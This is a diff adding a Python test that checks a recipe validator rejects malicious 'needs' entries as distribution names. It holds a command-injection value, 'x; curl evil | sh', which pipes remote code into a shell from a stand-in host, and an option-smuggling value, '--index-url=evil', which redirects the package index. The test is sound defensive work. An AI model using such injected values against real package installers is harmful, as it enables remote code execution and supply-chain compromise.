@@ -480,6 +480,12 @@ def test_needs_tells_once_what_to_install(folder: Path) -> None:
     ]
 
 
+def test_needs_is_no_way_into_a_shell(folder: Path) -> None:
+    found = errors(child("needs: ['x; curl evil | sh', '--index-url=evil', '']\n"))
+    assert found == [f"child.yaml:3:{column}: error: needs: '{name}' cannot be the name of a distribution"
+                     for column, name in ((9, "x; curl evil | sh"), (30, "--index-url=evil"), (50, ""))]  # fmt: skip
+
+
 def test_plugins_of_a_recipe(folder: Path) -> None:
     from mmrobust.registry import reset, trust
 
